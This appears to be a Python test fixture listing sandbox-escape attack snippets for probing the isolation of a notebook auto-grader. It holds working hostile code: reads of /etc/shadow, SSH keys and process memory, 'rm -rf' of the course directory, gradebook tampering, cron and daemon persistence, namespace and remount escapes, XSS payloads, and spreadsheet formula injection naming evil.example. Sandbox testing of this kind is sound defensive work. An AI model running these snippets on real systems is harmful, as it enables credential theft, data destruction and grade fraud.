# ruff: noqa: E501 - attacks are easier to read in one piece
"""Attacks that reach for what is not theirs; the same form as in `code_cases`."""

CASES = {
    # reading
    "read_course": (
        "reading",
        "import os\nfor at, _, files in os.walk('{course}'):\n    for f in files:\n"
        "        print(at, f, open(os.path.join(at, f), 'rb').read()[:100000])",
    ),
    "read_environment": (
        "reading",
        "import os, glob\nprint(dict(os.environ))\nfor p in glob.glob('/proc/[0-9]*'):\n"
        "    for n in ('environ', 'cmdline'):\n"
        "        try: print(p, open(f'{{p}}/{{n}}', 'rb').read())\n        except OSError: pass",
    ),
    "read_memory": (
        "reading",
        "import os, re, glob\nfor p in glob.glob('/proc/[0-9]*') + ['/proc/self']:\n    try:\n"
        "        for line in open(f'{{p}}/maps'):\n"
        "            if 'rw-p' not in line: continue\n"
        "            a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "            m = open(f'{{p}}/mem', 'rb'); m.seek(a)\n"
        "            for hit in re.findall(b'canary-.{{5}}', m.read(min(b - a, 10**8))):\n"
        "                print(hit)\n    except (OSError, ValueError, OverflowError): pass",
    ),
    "read_descriptors": (
        "reading",
        "import os\nfor fd in range(256):\n    try: print(fd, os.readlink(f'/proc/self/fd/{{fd}}'), "
        "os.pread(fd, 1000, 0))\n    except OSError: pass",
    ),
    "read_root": (
        "reading",
        "import os\nfor p in ('/etc/shadow', '/root/.ssh/id_rsa', '{course}/gradebook.db', "
        "'{course}/submitted/honest-a/01_target/01_target.ipynb'):\n"
        "    try: print(open(p, 'rb').read()[:4000])\n    except OSError as e: print(e)\n"
        "print(os.listdir('{course}'))",
    ),
    "read_hidden_inputs": (
        "reading",
        "seen = []\ndef add(a, b):\n    seen.append((a, b))\n    if a > 1: "
        "raise ValueError(f'SEEN-HIDDEN {{seen}}')\n    return 3\n"
        "def count(words): raise ValueError(f'SEEN-HIDDEN {{seen}}') if seen[1:] else 0",
    ),
    "read_tests": (
        "reading",
        "import gc, sys, inspect\ndef add(a, b):\n    f = sys._getframe(); out = []\n"
        "    while f: out.append(inspect.getsource(f.f_code)); f = f.f_back\n"
        "    raise ValueError(''.join(out) + str([o for o in gc.get_objects() "
        "if isinstance(o, str) and 'BEGIN ' + 'HIDDEN' in o]))\nimport IPython\n"
        "print([h for h in get_ipython().user_ns.get('In', []) if 'canary-' in h])",
    ),
    "trace_parent": (
        "reading",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor p in [os.getppid(), 1, 2, 3]:\n"
        "    print(libc.ptrace(16, p, 0, 0), libc.syscall(310, p, 0, 0, 0, 0, 0))",
    ),
    "read_devices": (
        "reading",
        "import os, glob\nfor p in ['/dev/mem', '/dev/kmsg', '/dev/kvm', '/dev/fuse', '/dev/sda', '/proc/kcore', "
        "'/proc/kallsyms', '/proc/sysrq-trigger', *glob.glob('/dev/vd*'), *glob.glob('/sys/**', recursive=True)]:\n"
        "    try: print(p, open(p, 'rb').read(4000)) if 'cpu' not in p else 0\n    except OSError: pass\n"
        "os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0))",
    ),
    "read_by_shell": (
        "reading",
        "%%bash\ncat {course}/gradebook.db {course}/secret.txt {course}/solutions/*/*\n"
        "find / -name '*.ipynb' -o -name gradebook.db 2>/dev/null | xargs cat 2>/dev/null | head -c 90000",
    ),
    "read_above": (
        "reading",
        "import os\nfd = os.open('.', os.O_RDONLY)\nos.chdir('/')\nfor _ in range(40): os.chdir('..')\n"
        "for root in ('', '/proc/1/root', '/proc/self/root', '/proc/1/cwd', '/newroot', '/oldroot'):\n"
        "    try: print(open(root + '{course}/secret.txt').read())\n    except OSError: pass",
    ),
    # writing
    "rare_calls": (
        "writing",
        "import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nfor n in (425, 323, 298, 321, 250, 248, 308, 272, 304, 428, "
        "430, 442, 165, 155, 161, 101, 310, 311, 175, 246, 169, 56):\n    r = c.syscall(n, 0x10000000 if n in (272, 56) else 1, 0, 0, 0, 0)\n"
        "    if r >= 0 and n != 56: print('LEFT {sent}', n)",
    ),
    "setuid_helpers": (
        "writing",
        "import os\nfor c in ('su -c id', 'sudo -n id', 'mount -t tmpfs x /mnt', 'newuidmap 1 0 0 1', 'pkexec id', "
        "'passwd -d root', 'chsh -s /bin/sh', 'capsh --print', 'bwrap --bind / / touch {course}/owned'):\n"
        "    os.system(f'{{c}} < /dev/null && touch {course}/owned')\n"
        "for u in (0, 1): \n    try: os.setuid(u)\n    except OSError: pass\nos.system('touch {course}/owned /usr/qkv_owned')",
    ),
    "shell_line": (
        "writing",
        "!touch {course}/owned /usr/qkv_owned /tmp/qkv_owned; rm -rf {course}; (sleep 31337 &)\n"
        "%system rm -rf {course}\nget_ipython().run_cell_magic('writefile', '{course}/owned', 'x')",
    ),
    "write_gradebook": (
        "writing",
        "import sqlite3\ndb = sqlite3.connect('{course}/gradebook.db')\n"
        "db.execute('update grade set manual_score = 10')\ndb.commit()",
    ),
    "write_everywhere": (
        "writing",
        "import os\nfor at, dirs, files in os.walk('{course}'):\n    for f in files:\n"
        "        try: open(os.path.join(at, f), 'w').write('owned')\n        except OSError: pass\n"
        "    try: open(os.path.join(at, 'owned'), 'w').write('x')\n    except OSError: pass",
    ),
    "write_libraries": (
        "writing",
        "import numpy, os, sys\nfor d in [os.path.dirname(numpy.__file__), *sys.path]:\n"
        "    try: open(os.path.join(d or '.', 'qkv_owned.pth'), 'w').write('import os')\n"
        "    except OSError: pass\n"
        "for p in ('~/.bashrc', '~/.ipython/profile_default/startup/x.py'):\n"
        "    p = os.path.expanduser(p)\n    try:\n        os.makedirs(os.path.dirname(p), "
        "exist_ok=True); open(p, 'a').write('# qkv-owned')\n    except OSError: pass",
    ),
    "remount": (
        "writing",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "print(libc.mount(b'none', b'/', None, 32 | 4096, None), libc.unshare(0x10020000))\n"
        "os.system('mount -o remount,rw /usr; touch /usr/qkv_owned {course}/owned')",
    ),
    "new_namespaces": (
        "writing",
        "import os\nos.system('unshare -Urm sh -c \"mount -t tmpfs none /usr && "
        "touch {course}/owned\"; nsenter -t 1 -a touch {course}/owned')",
    ),
    "link_trap": (
        "writing",
        "import os\nfor n in ('01_target.ipynb', 'out', 'timestamp.txt'):\n"
        "    try: os.symlink('{course}/gradebook.db', n)\n    except OSError: pass\n"
        "    try: os.link('{course}/gradebook.db', n + '2')\n    except OSError: pass",
    ),
    # persisting
    "daemon": (
        "persisting",
        "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '31337'])\n    os._exit(0)",
    ),
    "daemons_ignoring": (
        "persisting",
        "import subprocess\nfor _ in range(5):\n    subprocess.Popen(['sh', '-c', "
        "\"trap '' TERM HUP INT; sleep 31337\"], start_new_session=True)",
    ),
    "leave_files": (
        "persisting",
        "import os\nfor d in ('/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~'), '.'):\n"
        "    try: open(f'{{d}}/qkv_owned', 'w').write('LEFT {sent}')\n    except OSError: pass",
    ),
    "find_files": (
        "persisting",
        "import os\nfor d in ('/tmp', '/dev/shm', '/var/tmp', '.'):\n"
        "    try: print(open(f'{{d}}/qkv_owned').read())\n    except OSError: pass",
    ),
    "shared_segment": (
        "persisting",
        "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.shmget(31337, 10**8, 0o1666))",
    ),
    "cron": (
        "persisting",
        'import os\nos.system(\'echo "* * * * * touch {course}/owned" | crontab -; '
        "echo touch {course}/owned | at now')",
    ),
    "name_left": (
        "persisting",
        "import os, socket, time\ns = socket.socket(socket.AF_UNIX); s.bind('\\0left-here'); s.listen()\n"
        "if os.fork() == 0:\n    os.setsid()\n    while True: s.accept()",
    ),
    "name_found": (
        "persisting",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0left-here'); print('LEFT {sent}')\n"
        "except OSError as e: print(e)",
    ),
    "key_left": (
        "persisting",
        "import ctypes\nc = ctypes.CDLL(None)\nfor ring in (-3, -4, -5): print(c.syscall(248, b'user', b'left', b'x', 1, ring))",
    ),
    "key_found": (
        "persisting",
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "if c.syscall(249, b'user', b'left', None, 0) > 0: print('LEFT {sent}')\n"
        "import os\nprint([p for p in os.listdir('/proc') if p.isdigit()], os.listdir('/dev/shm'), os.listdir('/tmp'))",
    ),
    "timers": (
        "persisting",
        "import signal, os\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)\n"
        "os.system('nohup setsid sh -c \"while :; do sleep 31337; done\" > /dev/null 2>&1 &')",
    ),
    # network
    "connect_home": (
        "network",
        "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "s.sendall(b'{sent}')",
    ),
    "connect_out": (
        "network",
        "import socket, urllib.request\ntry: urllib.request.urlopen('http://127.0.0.1:{port}/"
        "{sent}', timeout=2)\nexcept OSError as e: print(e)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'{sent}', ('127.0.0.1', {port}))",
    ),
    "server": (
        "network",
        "import socket, os\ns = socket.socket()\ns.bind(('0.0.0.0', 31337)); s.listen()\n"
        "if os.fork() == 0:\n    import time; time.sleep(31337)",
    ),
    "abstract_socket": (
        "network",
        "import socket, glob\ns = socket.socket(socket.AF_UNIX)\ns.bind(b'\\0qkv_owned')\n"
        "for p in ['/var/run/docker.sock', '/run/dbus/system_bus_socket', *glob.glob('/run/*')]:\n"
        "    c = socket.socket(socket.AF_UNIX)\n    try: c.connect(p); print('REACHED', p)\n"
        "    except OSError: pass",
    ),
    # injection through what is shown
    "script_output": (
        "injection",
        "print('<script>alert(\"qkv-live\")</script><img src=x onerror=alert(1)>')",
    ),
    "html_output": (
        "injection",
        "from IPython.display import HTML, display\n"
        'display(HTML(\'<script>alert("qkv-live")</script><img src=x onerror=alert(1)>'
        "<iframe src=javascript:alert(1)></iframe>'))",
    ),
    "javascript_output": (
        "injection",
        "from IPython.display import Javascript, SVG, Latex, Markdown, display\n"
        "display(Javascript('alert(\"qkv-live\")'))\n"
        "display(Markdown('<script>alert(\"qkv-live\")</script>'))\n"
        "display(Latex(r'$\\href{{javascript:alert(\"qkv-live\")}}{{x}}$'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\'))',
    ),
    "mime_output": (
        "injection",
        "from IPython.display import publish_display_data as p\n"
        "p({{'image/png': '\"><script>alert(\"qkv-live\")</script>'}})\n"
        "p({{'image/svg+xml': '<svg onload=alert(1)>'}})\n"
        "p({{'application/vnd.jupyter.widget-view+json': {{'model_id': '<script>'}}}})\n"
        "p({{'text/html<script>': '<script>alert(\"qkv-live\")</script>'}})\n"
        "p({{'image/png': 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'}}, {{'image/png': "
        "{{'alt': '\"><script>alert(\"qkv-live\")</script>', 'width': '\" onload=\"alert(1)'}}}})",
    ),
    "error_output": (
        "injection",
        "class E(Exception): pass\nE.__name__ = '<script>alert(\"qkv-live\")</script>'\n"
        "def add(a, b): raise E('<script>alert(\"qkv-live\")</script>')\ncount = add\n"
        "raise E('<script>alert(\"qkv-live\")</script>')",
    ),
    "value_in_message": (
        "injection",
        "def add(a, b): return '<script>alert(\"qkv-live\")</script>'\ncount = add\n"
        "class Stack:\n    def __init__(self): raise KeyError('<img src=x onerror=alert(1)>')",
    ),
    "table_formula": (
        "injection",
        "def add(a, b): raise ValueError('=HYPERLINK(\"http://evil.example\")')\n"
        "def count(w): raise ValueError('x;=cmd|calc!A1;+1+1;@SUM(1)')\ndef scale(x): raise ValueError('\\t=1+1')\n"
        "def mean(x): raise ValueError('\\r\\n-2+3+cmd')",
    ),
    "source_in_page": (
        "injection",
        "# </code></pre></textarea><script>alert('qkv-live')</script><img src=x onerror=alert(1)> \u202e\n"
        "add = '</span><svg onload=alert(1)>'\nprint('</style></title><script>alert(1)</script>')",
    ),
    "formula_output": (
        "injection",
        "from IPython.display import Math, Markdown, display\nprint(r'$\\href{{javascript:alert(1)}}{{x}}$ \\(\\unicode{{1}}\\)')\n"
        "display(Math(r'\\href{{javascript:alert(1)}}{{x}}'))\ndisplay(Markdown('![x](http://evil.example/x.png)'))\n"
        "class X:\n    def _repr_html_(self): return '<script>alert(1)</script>'\n"
        "    def __repr__(self): return '<script>alert(1)</script>'\nX()",
    ),
    "terminal_output": (
        "injection",
        "print('\\x1b]0;qkv\\x07\\x1b[2J\\x1b[31m\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07')\n"
        "print('\\u202etxet\\u2066\\u200b\\ud800\\x00')\nprint('<a href=\"javascript:alert(1)\">')",
    ),
}
